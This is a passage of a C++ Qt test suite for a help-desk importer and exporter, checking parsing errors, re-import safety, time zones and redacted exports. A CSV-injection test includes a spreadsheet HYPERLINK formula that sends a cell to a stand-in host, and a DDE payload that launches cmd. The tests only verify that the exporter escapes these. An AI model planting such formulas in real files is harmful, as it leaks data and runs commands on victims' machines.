// Import and export on both engines: column detection, every bad-input path (broken quoting, wrong
// encoding, missing columns, bad dates, empty text), all-or-nothing writes, re-import safety,
// cancellation, a 50 MB file, and redacted exports.
#include "io/demodata.h"
#include "io/exporter.h"
#include "io/importer.h"
#include "testdatabases.h"

#include <QBuffer>
#include <QJsonArray>
#include <QJsonDocument>
#include <QTemporaryDir>
#include <QSqlQuery>
#include <QTest>
#include <QThread>
#include <QTimeZone>

using namespace calma;
using namespace Qt::StringLiterals;

namespace {

const QByteArray kGoodCsv =
    "Ticket ID,Subject,Description,Requester,Requester Email,Created At\n"
    "1001,Pedido tarde,\"Mi pedido 4500123 no ha llegado, ¿cuándo llega?\",Ana López,ana@example.com,2026-03-12T09:30:00Z\n"
    "1001,Pedido tarde,\"ES LA TERCERA VEZ QUE ESCRIBO, sois unos inútiles!!!\",Ana López,ana@example.com,2026-03-13 10:00:00\n"
    "1002,Refund,\"I want my money back.\nCall me on +44 20 7946 0958, card 4111 1111 1111 1111.\",Tom Smith,tom@example.org,2026-03-12 11:00\n";

// A file of `rows` new messages (three to a ticket, N-0, N-1…) with a word nothing else holds
// ("zanahoria"), and, half way, a message for the conversation 1001 of kGoodCsv (a conversation that
// was there before) and a new conversation of its customer under a fuller name (a contact that was there
// before, renamed).
QByteArray batchedCsv(int rows)
{
    QByteArray data = "Ticket ID,Description,Requester,Requester Email,Created At\n";
    for (int i = 0; i < rows; ++i) {
        if (i == rows / 2) {
            data += "1001,\"Gracias, ya ha llegado\",Ana López,ana@example.com,2026-03-20T10:00:00Z\n";
            data += "A-1,\"Otra consulta\",Ana María López,ana@example.com,2026-03-21T10:00:00Z\n";
        }
        data += "N-" + QByteArray::number(i / 3) + ",la zanahoria número " + QByteArray::number(i) + " llegó rota,Cliente "
                + QByteArray::number(i / 3) + ",n" + QByteArray::number(i % 50) + "@example.com,2026-04-01T10:"
                + QByteArray::number(10 + i % 50) + ":00Z\n";
    }
    return data;
}

// Every row of the tables an import writes, seen or not (the visibility aside).
qint64 rawRows(const Database &db, const QString &table)
{
    QSqlQuery q(db.connection());
    return q.exec(u"SELECT COUNT(*) FROM "_s + table) && q.next() ? q.value(0).toLongLong() : -1;
}

// What every reader shows of a database, through another connection.
struct Shown
{
    qint64 conversations = -1, messages = -1, inbox = -1, found = -1, exported = -1;
    qint64 ofConversation1001 = -1;
    QString customerOf1001, statusOf1001;
    bool newTicketKnown = true;
};

Shown shown(const QString &url)
{
    Shown s;
    const auto db = test::openDatabase(url);
    if (!db)
        return s;
    const ConversationStore store(db);
    s.conversations = store.conversationCount();
    s.messages = store.messageCount();
    s.inbox = store.inboxCount({.statuses = conversationStatuses()});
    s.found = store.search(u"zanahoria"_s, 50).size() + store.inboxCount({.statuses = conversationStatuses(), .text = u"zanahoria"_s});
    QBuffer out;
    out.open(QIODevice::WriteOnly);
    QString error;
    s.exported = Exporter(db).write(out, {}, &error);
    const auto id = store.conversationByExternalId(u"1001"_s);
    if (id) {
        s.ofConversation1001 = store.messages(*id).size();
        const auto state = store.conversation(*id, 1'800'000'000'000, &error);
        s.statusOf1001 = state ? state->status : QString();
    }
    QSqlQuery q(db->connection());
    if (q.exec(u"SELECT name FROM contacts WHERE email = 'ana@example.com'"_s) && q.next())
        s.customerOf1001 = q.value(0).toString();
    s.newTicketKnown = store.conversationByExternalId(u"N-0"_s).has_value();
    return s;
}

} // namespace

class TestImportExport : public QObject
{
    Q_OBJECT
private slots:
    void initTestCase();
    void detectsColumns_data();
    void detectsColumns();
    void importsOnceAndScores_data() { test::addEngines(); }
    void importsOnceAndScores();
    void badInputWritesNothing_data();
    void badInputWritesNothing();
    void jsonFormats_data() { test::addEngines(); }
    void jsonFormats();
    void cancelWritesNothing_data() { test::addEngines(); }
    void cancelWritesNothing();
    void largeFile_data() { test::addEngines(); }
    void largeFile();
    void exportsWithRedaction_data() { test::addEngines(); }
    void exportsWithRedaction();
    void reimportIsIdempotent_data();
    void reimportIsIdempotent();
    void dateOrders();
    void zonelessTimes_data() { test::addEngines(); }
    void zonelessTimes();
    void demoData_data() { test::addEngines(); }
    void demoData();
    void settlesAsMessageByMessage_data();
    void settlesAsMessageByMessage();
    void streamsInChunks_data() { test::addEngines(); }
    void streamsInChunks();
    void readsAcrossBlocks_data();
    void readsAcrossBlocks();
    void contactsAcrossBatches_data() { test::addEngines(); }
    void contactsAcrossBatches();
    void internalNotesAreLeftOut_data() { test::addEngines(); }
    void internalNotesAreLeftOut();
    void subjectsAndNamesFromRows_data() { test::addEngines(); }
    void subjectsAndNamesFromRows();
    void exportReadsOneSnapshot_data() { test::addEngines(); }
    void exportReadsOneSnapshot();
    void unfinishedImportIsInvisible_data() { test::addEngines(); }
    void unfinishedImportIsInvisible();
    void stoppedImportLeavesNothing_data();
    void stoppedImportLeavesNothing();

private:
    std::shared_ptr<Database> fresh(const QString &engine);

    QTemporaryDir m_dir;
    std::shared_ptr<const ToneAnalyzer> m_analyzer;
};

void TestImportExport::initTestCase()
{
    m_analyzer = ToneAnalyzer::load().analyzer;
    QVERIFY(m_analyzer);
}

std::shared_ptr<Database> TestImportExport::fresh(const QString &engine)
{
    return test::freshDatabase(engine, m_dir.path());
}

void TestImportExport::detectsColumns_data()
{
    QTest::addColumn<QStringList>("columns");
    QTest::addColumn<QString>("body");
    QTest::addColumn<QString>("ticket");
    QTest::addColumn<QString>("email");
    QTest::newRow("zendesk") << QStringList{u"Id"_s, u"Subject"_s, u"Description"_s, u"Requester"_s, u"Requester email"_s, u"Created at"_s}
                             << u"Description"_s << u"Id"_s << u"Requester email"_s;
    QTest::newRow("freshdesk") << QStringList{u"Ticket ID"_s, u"Subject"_s, u"Description"_s, u"Full name"_s, u"Email"_s, u"Created time"_s}
                               << u"Description"_s << u"Ticket ID"_s << u"Email"_s;
    QTest::newRow("spanish") << QStringList{u"Nº de incidencia"_s, u"Asunto"_s, u"Mensaje"_s, u"Cliente"_s, u"Correo electrónico"_s, u"Fecha"_s}
                             << u"Mensaje"_s << QString() << u"Correo electrónico"_s;
    QTest::newRow("snake case") << QStringList{u"ticket_id"_s, u"body"_s, u"requester_email"_s, u"created_at"_s}
                                << u"body"_s << u"ticket_id"_s << u"requester_email"_s;
}

void TestImportExport::detectsColumns()
{
    QFETCH(QStringList, columns);
    QFETCH(QString, body);
    QFETCH(QString, ticket);
    QFETCH(QString, email);
    QString error;
    const ColumnMapping mapping = Importer::detectMapping(columns, {}, &error);
    QVERIFY2(error.isEmpty(), qPrintable(error));
    QCOMPARE(mapping.body, body);
    if (!ticket.isEmpty())
        QCOMPARE(mapping.ticketId, ticket);
    QCOMPARE(mapping.customerEmail, email);
    const ColumnMapping forced = Importer::detectMapping(columns, {{u"body"_s, columns.last()}}, &error);
    QCOMPARE(forced.body, columns.last());
}

void TestImportExport::importsOnceAndScores()
{
    QFETCH(QString, engine);
    const auto db = fresh(engine);
    QVERIFY(db);
    const Importer importer(db, m_analyzer);
    const ImportReport first = importer.importData(kGoodCsv, u"zendesk.csv"_s, ImportFormat::Csv);
    QVERIFY2(first.ok, qPrintable(first.error));
    QCOMPARE(first.conversationsAdded, 2);
    QCOMPARE(first.messagesAdded, 3);
    const ImportReport again = importer.importData(kGoodCsv, u"zendesk.csv"_s, ImportFormat::Csv);
    QVERIFY(again.ok);
    QCOMPARE(again.messagesAdded, 0);
    QCOMPARE(again.alreadyPresent, 3);
    const ConversationStore store(db);
    QCOMPARE(store.conversationCount(), 2);
    QCOMPARE(store.messageCount(), 3);
    const QList<ConversationSummary> inbox = store.inbox({.nowMs = 1'800'000'000'000});
    QCOMPARE(inbox.first().externalId, u"1001"_s); // the insult makes it the hottest
    QVERIFY(inbox.first().heat >= 75);
    const QList<StoredMessage> messages = store.messages(inbox.first().id);
    QCOMPARE(messages.size(), 2);
    QVERIFY(messages.first().sentMs < messages.last().sentMs);
    QCOMPARE(messages.last().level, u"hostile"_s);
}

void TestImportExport::reimportIsIdempotent_data()
{
    QTest::addColumn<QString>("engine");
    QTest::addColumn<QByteArray>("data");
    QTest::addColumn<int>("messages");
    // No date column, a blank message-id cell, and a customer who wrote the same words twice.
    const QList<std::tuple<const char *, QByteArray, int>> cases{
        {"no date column", QByteArray("Ticket ID,Description\n1,Where is my order?\n1,Hello?\n1,Hello?\n2,Refund me\n"), 4},
        {"blank message id", QByteArray("Ticket ID,Message ID,Description,Created At\n1,,Where is it?,2026-01-01T10:00:00Z\n"
                                        "1,m-2,Any news?,2026-01-02T10:00:00Z\n1,,Where is it?,2026-01-03T10:00:00Z\n"), 3},
        {"no ticket column", QByteArray("Description\nMy card was charged twice\nMy card was charged twice\n"), 2},
    };
    for (const QString &engine : {u"sqlite"_s, u"postgresql"_s}) {
        for (const auto &[name, data, messages] : cases)
            QTest::addRow("%s %s", name, qPrintable(engine)) << engine << data << messages;
    }
}

void TestImportExport::reimportIsIdempotent()
{
    // Importing the same file again adds nothing, whatever it lacks, and a message said twice stays twice.
    QFETCH(QString, engine);
    QFETCH(QByteArray, data);
    QFETCH(int, messages);
    const auto db = fresh(engine);
    QVERIFY(db);
    const Importer importer(db, m_analyzer);
    const ImportReport first = importer.importData(data, u"export.csv"_s, ImportFormat::Csv);
    QVERIFY2(first.ok, qPrintable(first.error));
    QCOMPARE(first.messagesAdded, messages);
    QTest::qWait(5); // a later "now" must not make new ids
    const ImportReport again = importer.importData(data, u"export.csv"_s, ImportFormat::Csv);
    QVERIFY2(again.ok, qPrintable(again.error));
    QCOMPARE(again.messagesAdded, 0);
    QCOMPARE(again.alreadyPresent, messages);
    QCOMPARE(ConversationStore(db).messageCount(), qint64(messages));
    // The same id with another text is an error, not "already imported".
    const QByteArray changed = "Ticket ID,Message ID,Description\n9,x-1,the first words\n";
    QVERIFY(importer.importData(changed, u"a.csv"_s, ImportFormat::Csv).ok);
    const ImportReport clash = importer.importData("Ticket ID,Message ID,Description\n9,x-1,other words\n", u"b.csv"_s, ImportFormat::Csv);
    QVERIFY(!clash.ok);
    QVERIFY2(clash.error.contains(u"already in the database with another text"_s), qPrintable(clash.error));
}

void TestImportExport::zonelessTimes()
{
    // A time written without a zone is UTC unless the import says otherwise, whatever the machine's zone.
    QFETCH(QString, engine);
    const QByteArray data = "Ticket ID,Description,Created At\n1,Hola,2026-03-12 09:30:00\n2,Hello,2026-03-12T09:30:00\n";
    for (const QByteArray &machineZone : {QByteArray("UTC"), QByteArray("America/Mexico_City")}) {
        qputenv("TZ", machineZone);
        const auto db = fresh(engine);
        QVERIFY(db);
        QVERIFY(Importer(db, m_analyzer).importData(data, u"times.csv"_s, ImportFormat::Csv).ok);
        const ConversationStore store(db);
        for (const ConversationSummary &c : store.inbox({.nowMs = 1'800'000'000'000})) {
            const QList<StoredMessage> messages = store.messages(c.id);
            QCOMPARE(messages.first().sentMs, QDateTime(QDate(2026, 3, 12), QTime(9, 30), QTimeZone::utc()).toMSecsSinceEpoch());
        }
    }
    qunsetenv("TZ");
    const auto madrid = fresh(engine);
    ImportOptions options;
    options.timeZone = QTimeZone("Europe/Madrid");
    QVERIFY(Importer(madrid, m_analyzer).importData(data, u"times.csv"_s, ImportFormat::Csv, options).ok);
    const ConversationStore store(madrid);
    const QList<ConversationSummary> inbox = store.inbox({.nowMs = 1'800'000'000'000});
    QVERIFY(!inbox.isEmpty());
    QCOMPARE(store.messages(inbox.first().id).first().sentMs,
             QDateTime(QDate(2026, 3, 12), QTime(8, 30), QTimeZone::utc()).toMSecsSinceEpoch()); // 09:30 in Madrid is 08:30 UTC in March

    // The same file again, under another zone or the default, is the same messages: nothing is added twice.
    for (const QByteArray &zoneName : {QByteArray("America/New_York"), QByteArray()}) {
        ImportOptions again;
        if (!zoneName.isEmpty())
            again.timeZone = QTimeZone(zoneName);
        const ImportReport report = Importer(madrid, m_analyzer).importData(data, u"times.csv"_s, ImportFormat::Csv, again);
        QVERIFY2(report.ok, qPrintable(report.error));
        QCOMPARE(report.messagesAdded, 0);
        QCOMPARE(report.alreadyPresent, 2);
    }
    // Times written with their zone are instants: the zone of the import changes nothing.
    const auto zoned = fresh(engine);
    const QByteArray withZones = "Ticket ID,Description,Created At\n1,Hola,2026-03-12T09:30:00+01:00\n2,Hello,2026-03-12T09:30:00Z\n";
    QVERIFY(Importer(zoned, m_analyzer).importData(withZones, u"zoned.csv"_s, ImportFormat::Csv, options).ok);
    QCOMPARE(Importer(zoned, m_analyzer).importData(withZones, u"zoned.csv"_s, ImportFormat::Csv).messagesAdded, 0);
}

void TestImportExport::badInputWritesNothing_data()
{
    QTest::addColumn<QString>("engine");
    QTest::addColumn<QByteArray>("data");
    QTest::addColumn<QString>("where");
    const QByteArray header = "Ticket ID,Description,Created At\n";
    const QList<std::tuple<const char *, QByteArray, QString>> cases{
        {"broken quoting", header + "1,fine,2026-01-01\n2,\"never closed,2026-01-02\n3,x,2026-01-03\n", u"bad.csv:3: column 3: a quoted field is never closed"_s},
        {"stray quote", header + "1,fine,2026-01-01\n2,say \"hi\",2026-01-02\n", u"bad.csv:3: column 7: a quote inside an unquoted field"_s},
        {"wrong encoding", header + "1,caf\xe9 con leche,2026-01-01\n", u"bad.csv:2: not UTF-8 (byte 0xe9 at column 6)"_s},
        {"missing column", QByteArray("Ticket ID,Subject\n1,hola\n"), u"bad.csv:1: no column holds the message text"_s},
        {"field count", header + "1,fine,2026-01-01\n2,two,2026-01-02,extra\n", u"bad.csv:3: 4 fields, but the header has 3"_s},
        {"bad date", header + "1,fine,2026-01-01\n2,hola,ayer\n", u"bad.csv:3 (Created At): not a date and time: \"ayer\""_s},
        {"nan as a time", header + "1,fine,2026-01-01\n2,hola,nan\n", u"bad.csv:3 (Created At): not a date and time: \"nan\""_s},
        {"inf as a time", header + "1,fine,2026-01-01\n2,hola,inf\n", u"bad.csv:3 (Created At): not a date and time: \"inf\""_s},
        {"a bare number", header + "1,fine,1700000000\n", u"bad.csv:2 (Created At): a bare number is not a date: \"1700000000\""_s},
        {"day and month either way", header + "1,fine,03/01/2026\n2,hola,04/02/2026\n",
         u"bad.csv:2 (Created At): these dates read either way (day/month or month/day)"_s},
        {"day first and month first", header + "1,fine,25/01/2026\n2,hola,01/13/2026\n",
         u"bad.csv:3 (Created At): dates with the day first (line 2) and the month first (line 3) in one column"_s},
        {"empty text", header + "1,fine,2026-01-01\n2,   ,2026-01-02\n", u"bad.csv:3 (Description): empty message text"_s},
        {"empty ticket id", header + "1,fine,2026-01-01\n,hola,2026-01-02\n", u"bad.csv:3 (Ticket ID): empty ticket id"_s},
        {"UTF-16", QByteArray("\xff\xfe", 2) + QByteArray("T\0i\0c\0k\0e\0t\0,\0B\0o\0d\0y\0\n\0001\0,\0h\0i\0\n\0", 32),
         u"bad.csv:1: the file is UTF-16: save it as UTF-8"_s},
        {"a NUL character", header + QByteArray("1,fine,2026-01-01\n2,bad") + QByteArray(1, '\0') + "text,2026-01-02\n",
         u"bad.csv:3 (Description): a NUL character at position 4"_s},
        {"one id, two texts", QByteArray("Ticket ID,Message ID,Description\n1,m-1,first text\n1,m-1,another text\n"),
         u"bad.csv:3 (Message ID): message id \"m-1\" is used again with another text (first on line 2)"_s},
        {"a true/false column as the direction", QByteArray("Ticket ID,Description,Role\n1,hola,customer\n1,nota para el equipo,false\n"),
         u"bad.csv:3 (Role): not a direction: \"false\" (customer, agent, or note for an internal note)"_s},
    };
    for (const QString &engine : {u"sqlite"_s, u"postgresql"_s}) {
        for (const auto &[name, data, where] : cases)
            QTest::addRow("%s %s", name, qPrintable(engine)) << engine << data << where;
    }
}

void TestImportExport::badInputWritesNothing()
{
    QFETCH(QString, engine);
    QFETCH(QByteArray, data);
    QFETCH(QString, where);
    const auto db = fresh(engine);
    QVERIFY(db);
    const ImportReport report = Importer(db, m_analyzer).importData(data, u"bad.csv"_s, ImportFormat::Csv);
    QVERIFY(!report.ok);
    QVERIFY2(report.error.startsWith(where), qPrintable(report.error));
    QCOMPARE(ConversationStore(db).messageCount(), 0);
    QCOMPARE(ConversationStore(db).conversationCount(), 0);
}

void TestImportExport::internalNotesAreLeftOut()
{
    // A help desk's internal notes are not the customer's words: they are left out and counted, never
    // imported as customer messages that would heat the inbox. Directions are read in both languages.
    QFETCH(QString, engine);
    const auto db = fresh(engine);
    QVERIFY(db);
    const QByteArray data = "Ticket ID,Description,Role,Created At\n"
                            "1,My card was charged twice for the same order,end-user,2026-03-01T10:00:00Z\n"
                            "1,\"Customer is furious, refund ASAP - idiots in billing again\",internal note,2026-03-01T10:05:00Z\n"
                            "1,\"I'm sorry about that: I can reverse the second charge today.\",Agent,2026-03-01T10:10:00Z\n"
                            "2,Me han cobrado dos veces,cliente,2026-03-02T10:00:00Z\n"
                            "2,Revisar con facturación,Nota interna,2026-03-02T10:01:00Z\n";
    const ImportReport report = Importer(db, m_analyzer).importData(data, u"notes.csv"_s, ImportFormat::Csv);
    QVERIFY2(report.ok, qPrintable(report.error));
    QCOMPARE(report.notesLeftOut, 2);
    QCOMPARE(report.messagesAdded, 3);
    const ConversationStore store(db);
    const QList<StoredMessage> first = store.messages(*store.conversationByExternalId(u"1"_s));
    QCOMPARE(first.size(), 2);
    QCOMPARE(first.at(0).direction, u"customer"_s);
    QCOMPARE(first.at(1).direction, u"agent"_s);
    for (const StoredMessage &m : first)
        QVERIFY(!m.body.contains(u"idiots"_s));
}

void TestImportExport::dateOrders()
{
    // Day or month first, decided from the whole column or said; a bare number only when said.
    const QByteArray header = "Ticket ID,Description,Created At\n";
    auto firstTime = [&](const QByteArray &data, ImportOptions options, QString *error) -> qint64 {
        const auto db = fresh(u"sqlite"_s);
        const ImportReport report = Importer(db, m_analyzer).importData(data, u"dates.csv"_s, ImportFormat::Csv, options);
        *error = report.error;
        if (!report.ok)
            return -1;
        const auto messages = ConversationStore(db).messages(*ConversationStore(db).conversationByExternalId(u"1"_s));
        return messages.isEmpty() ? -1 : messages.first().sentMs;
    };
    auto utc = [](int y, int m, int d) { return QDateTime(QDate(y, m, d), QTime(0, 0), QTimeZone::utc()).toMSecsSinceEpoch(); };
    QString error;
    // 25/01 says the day comes first, so 03/01 is the 3rd of January.
    QCOMPARE(firstTime(header + "1,hola,03/01/2026\n2,otra,25/01/2026\n", {}, &error), utc(2026, 1, 3));
    // 01/13 says the month comes first, so 03/01 is the 1st of March.
    QCOMPARE(firstTime(header + "1,hello,03/01/2026\n2,again,01/13/2026\n", {}, &error), utc(2026, 3, 1));
    ImportOptions said;
    said.dateFormat = DateFormat::MonthFirst;
    QCOMPARE(firstTime(header + "1,hello,03/01/2026\n", said, &error), utc(2026, 3, 1));
    said.dateFormat = DateFormat::DayFirst;
    QCOMPARE(firstTime(header + "1,hola,03/01/2026\n", said, &error), utc(2026, 1, 3));
    said.dateFormat = DateFormat::EpochSeconds;
    QCOMPARE(firstTime(header + "1,hola,1767225600\n", said, &error), utc(2026, 1, 1));
    said.dateFormat = DateFormat::EpochMilliseconds;
    QCOMPARE(firstTime(header + "1,hola,1767225600000\n", said, &error), utc(2026, 1, 1));
    QCOMPARE(firstTime(header + "1,hola,1e300\n", said, &error), -1);
    QVERIFY2(error.contains(u"not a time since 1970"_s), qPrintable(error));
    QCOMPARE(dateFormatFromName(u"mdy"), DateFormat::MonthFirst);
    QVERIFY(!dateFormatFromName(u"ymd"));
}

void TestImportExport::jsonFormats()
{
    QFETCH(QString, engine);
    const auto db = fresh(engine);
    QVERIFY(db);
    const Importer importer(db, m_analyzer);
    const QByteArray json = R"({"tickets": [
        {"id": 7, "subject": "Router", "description": "El router no funciona desde ayer", "requester": {"name": "Eva", "email": "eva@example.com"}, "created_at": "2026-02-01T08:00:00Z"},
        {"id": 8, "subject": "Thanks", "description": "Thank you so much, great service!", "requester": {"name": "Sam", "email": "sam@example.net"}, "created_at": "2026-02-01T09:00:00Z"}
    ]})";
    const ImportReport fromJson = importer.importData(json, u"export.json"_s, ImportFormat::Json);
    QVERIFY2(fromJson.ok, qPrintable(fromJson.error));
    QCOMPARE(fromJson.messagesAdded, 2);
    QCOMPARE(fromJson.mapping.customerEmail, u"requester email"_s);
    const QByteArray lines = "{\"ticket_id\":\"a1\",\"body\":\"hola\",\"direction\":\"agent\"}\n\n{\"ticket_id\":\"a1\",\"body\":\"gracias\"}\n";
    const ImportReport fromLines = importer.importData(lines, u"export.jsonl"_s, ImportFormat::JsonLines);
    QVERIFY2(fromLines.ok, qPrintable(fromLines.error));
    QCOMPARE(fromLines.messagesAdded, 2);
    // A JSON array's row is named by its item and the line it starts on, in a top-level array or
    // in the chosen one of an object.
    const ImportReport item = importer.importData("[\n {\"ticket_id\":\"i1\",\"body\":\"hola\"},\n\n {\"ticket_id\":\"i2\",\n  \"body\":\" \"}\n]\n",
                                                  u"items.json"_s, ImportFormat::Json);
    QCOMPARE(item.error, u"items.json:4 (item 2, body): empty message text"_s);
    const ImportReport nested = importer.importData(
        "{\"audit\": [{\"note\": \"[a, b]\"}],\n \"tickets\": [\n  {\"ticket_id\":\"n1\",\"body\":\"ok\"},\n  7\n]}\n", u"nested.json"_s,
        ImportFormat::Json);
    QCOMPARE(nested.error, u"nested.json:4 (item 2): not an object"_s);
    const ImportReport broken = importer.importData("{\"ticket_id\":\"b\",\"body\":\"ok\"}\n{broken\n", u"bad.jsonl"_s, ImportFormat::JsonLines);
    QVERIFY(!broken.ok);
    QVERIFY2(broken.error.startsWith(u"bad.jsonl:2: not JSON"_s), qPrintable(broken.error));
    QCOMPARE(ConversationStore(db).messageCount(), 4);

    // Several arrays: the one whose items carry a message text, else the one named, never the first
    // in silence.
    const QByteArray two = R"({"audit": [{"at": "2026-02-01", "who": "bot", "event": "merged"}],
        "tickets": [{"id": 31, "description": "Where is my refund?", "created_at": "2026-02-02T08:00:00Z"}]})";
    const ImportReport picked = importer.importData(two, u"two.json"_s, ImportFormat::Json);
    QVERIFY2(picked.ok, qPrintable(picked.error));
    QCOMPARE(picked.messagesAdded, 1);
    const QByteArray ambiguous = R"({"open": [{"id": 41, "description": "one"}], "closed": [{"id": 42, "description": "two"}]})";
    const ImportReport unsure = importer.importData(ambiguous, u"both.json"_s, ImportFormat::Json);
    QVERIFY(!unsure.ok);
    QVERIFY2(unsure.error.contains(u"several arrays (closed, open)"_s) && unsure.error.contains(u"--array"_s), qPrintable(unsure.error));
    ImportOptions choose;
    choose.array = u"closed"_s;
    const ImportReport chosen = importer.importData(ambiguous, u"both.json"_s, ImportFormat::Json, choose);
    QVERIFY2(chosen.ok, qPrintable(chosen.error));
    QCOMPARE(chosen.messagesAdded, 1);
    // An empty array is an array all the same: named, it is the one chosen (and holds no rows).
    const QByteArray withEmpty = R"({"tickets": [{"id": 61, "description": "hello"}], "audit": []})";
    QCOMPARE(importer.importData(withEmpty, u"empty.json"_s, ImportFormat::Json).messagesAdded, 1);
    choose.array = u"audit"_s;
    QVERIFY(importer.importData(withEmpty, u"empty.json"_s, ImportFormat::Json, choose).error.contains(u"no column holds the message text"_s));
    QVERIFY(importer.importData(R"({"open": [], "closed": []})", u"two.json"_s, ImportFormat::Json).error.contains(u"several arrays (closed, open)"_s));
    choose.array = u"archived"_s;
    QVERIFY(importer.importData(ambiguous, u"both.json"_s, ImportFormat::Json, choose).error.contains(u"no array \"archived\""_s));
    QCOMPARE(ConversationStore(db).messageCount(), 7);
    // An unpaired surrogate cannot be stored by PostgreSQL: refused on both engines, with where it is.
    const ImportReport surrogate = importer.importData(R"({"tickets": [{"id": 51, "description": "broken \ud800 text"}]})",
                                                       u"surrogate.json"_s, ImportFormat::Json);
    QVERIFY(!surrogate.ok);
    QVERIFY2(surrogate.error.startsWith(u"surrogate.json:"_s), qPrintable(surrogate.error));
    QCOMPARE(ConversationStore(db).messageCount(), 7);
}

void TestImportExport::cancelWritesNothing()
{
    QFETCH(QString, engine);
    const auto db = fresh(engine);
    QVERIFY(db);
    QByteArray data = "ticket_id,body\n";
    for (int i = 0; i < 2000; ++i)
        data += QByteArray::number(i) + ",message number " + QByteArray::number(i) + "\n";
    qint64 calls = 0, lastTotal = 0;
    ImportOptions options;
    options.progress = [&](qint64 done, qint64 total) -> bool {
        ++calls;
        lastTotal = total;
        return done < 1000;
    };
    const ImportReport report = Importer(db, m_analyzer).importData(data, u"big.csv"_s, ImportFormat::Csv, options);
    QVERIFY(report.cancelled && !report.ok);
    QVERIFY(calls > 1);
    QCOMPARE(lastTotal, 2000);
    QCOMPARE(ConversationStore(db).messageCount(), 0);
    // Cancelled while an earlier chunk is being scored on the pool: nothing either.
    QByteArray more = "ticket_id,body\n";
    for (int i = 0; i < 10000; ++i)
        more += QByteArray::number(i) + ",message number " + QByteArray::number(i) + "\n";
    options.progress = [](qint64 done, qint64) { return done < 6000; };
    QVERIFY(Importer(db, m_analyzer).importData(more, u"bigger.csv"_s, ImportFormat::Csv, options).cancelled);
    QCOMPARE(ConversationStore(db).messageCount(), 0);

    // The database refusing a write is the database's fault, said so, not blamed on a line.
    QSqlQuery trigger(db->connection());
    const bool sqlite = engine == u"sqlite";
    if (sqlite) {
        QVERIFY(trigger.exec(u"CREATE TRIGGER refuse BEFORE INSERT ON messages BEGIN SELECT RAISE(ABORT, 'refused here'); END"_s));
    } else {
        QVERIFY(trigger.exec(u"CREATE FUNCTION refuse() RETURNS trigger AS $$ BEGIN RAISE EXCEPTION 'refused here'; END $$ LANGUAGE plpgsql"_s));
        QVERIFY(trigger.exec(u"CREATE TRIGGER refuse BEFORE INSERT ON messages FOR EACH ROW EXECUTE FUNCTION refuse()"_s));
    }
    const ImportReport refused = Importer(db, m_analyzer).importData("ticket_id,body\n1,hola\n", u"small.csv"_s, ImportFormat::Csv);
    QVERIFY(!refused.ok);
    QVERIFY2(refused.error.startsWith(u"cannot write to "_s) && refused.error.contains(u"refused here"_s)
                 && refused.error.contains(u"(while importing small.csv:2); nothing was imported"_s),
             qPrintable(refused.error));
    QCOMPARE(ConversationStore(db).conversationCount(), 0);
}

void TestImportExport::largeFile()
{
    QFETCH(QString, engine);
    const auto db = fresh(engine);
    QVERIFY(db);
    // A 50 MB export whose very last row is bad: the error names it, and nothing is written.
    QByteArray data = "ticket_id,body,created_at\n";
    const QByteArray text = QByteArray("No me ha llegado el pedido y nadie me contesta, ").repeated(40);
    int row = 0;
    while (data.size() < 50 * 1024 * 1024)
        data += QByteArray::number(++row) + ",\"" + text + "\",2026-01-01T10:00:00Z\n";
    data += "last,\"oops\",not-a-date\n";
    const ImportReport report = Importer(db, m_analyzer).importData(data, u"huge.csv"_s, ImportFormat::Csv);
    QVERIFY(!report.ok);
    QVERIFY2(report.error.startsWith(u"huge.csv:%1 (created_at)"_s.arg(row + 2)), qPrintable(report.error));
    QCOMPARE(ConversationStore(db).messageCount(), 0);
}

void TestImportExport::exportsWithRedaction()
{
    QFETCH(QString, engine);
    const auto db = fresh(engine);
    QVERIFY(db);
    QVERIFY(Importer(db, m_analyzer).importData(kGoodCsv, u"zendesk.csv"_s, ImportFormat::Csv).ok);
    QString error;
    QBuffer plain, redacted, json;
    plain.open(QIODevice::WriteOnly);
    redacted.open(QIODevice::WriteOnly);
    json.open(QIODevice::WriteOnly);
    const Exporter exporter(db);
    QCOMPARE(exporter.write(plain, {ExportFormat::Csv, false, {}}, &error), 3);
    QCOMPARE(exporter.write(redacted, {ExportFormat::Csv, true, {}}, &error), 3);
    QCOMPARE(exporter.write(json, {ExportFormat::Json, true, {}}, &error), 3);
    QVERIFY(plain.data().contains("ana@example.com"));
    QVERIFY(plain.data().contains("4111 1111 1111 1111"));
    for (const QByteArray &out : {redacted.data(), json.data()}) {
        QVERIFY(!out.contains("ana@example.com"));
        QVERIFY(!out.contains("4111 1111"));
        QVERIFY(!out.contains("7946"));
        QVERIFY(!out.contains("Ana López"));
        QVERIFY(out.contains("4500123")); // order numbers are not personal data
    }
    QVERIFY(redacted.data().contains("[card]"));
    const QJsonArray conversations = QJsonDocument::fromJson(json.data()).array();
    QCOMPARE(conversations.size(), 2);
    QVERIFY(conversations.first().toObject().value(u"messages").toArray().first().toObject().contains(u"heat"));
    QCOMPARE(Exporter::redact(u"IBAN ES91 2100 0418 4502 0005 1332, mail x.y@example.com"_s), u"IBAN [iban], mail [email]"_s);

    // CSV injection: a message a spreadsheet would run as a formula is written as text.
    const QByteArray formulas = "Ticket ID,Description,Public\n77,\"=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"click\"\")\",true\n"
                                "78,@SUM(1+1)*cmd|' /C calc'!A0,false\n79,+34 600 000 000 call me,true\n";
    QVERIFY(Importer(db, m_analyzer).importData(formulas, u"formulas.csv"_s, ImportFormat::Csv).ok);
    QBuffer injected;
    injected.open(QIODevice::WriteOnly);
    QVERIFY(exporter.write(injected, {ExportFormat::Csv, false, {}}, &error) > 0);
    const QByteArray csv = injected.data();
    QVERIFY2(csv.contains("\"'=HYPERLINK("), csv.constData());
    QVERIFY(csv.contains("\"'@SUM("));
    QVERIFY(csv.contains("\"'+34 600"));
    QVERIFY(!csv.contains(",=HYPERLINK") && !csv.contains(",@SUM") && !csv.contains(",+34"));
    // A contact's name is the latest non-empty one they gave.
    const QByteArray names = "Ticket ID,Description,Requester,Requester Email\n81,hi,Ana,ana.l@example.com\n82,again,,ana.l@example.com\n"
                             "83,thanks,Ana López,ana.l@example.com\n";
    QVERIFY(Importer(db, m_analyzer).importData(names, u"names.csv"_s, ImportFormat::Csv).ok);
    for (const ConversationSummary &c : ConversationStore(db).inbox({.nowMs = 1'800'000'000'000})) {
        if (c.externalId == u"81" || c.externalId == u"82" || c.externalId == u"83")
            QCOMPARE(c.customer, u"Ana López"_s);
    }
    // A "Public" true/false column says whether a note is public, not who wrote it.
    const ConversationStore store(db);
    for (const QString &ticket : {u"77"_s, u"78"_s}) {
        const auto id = store.conversationByExternalId(ticket);
        QVERIFY(id);
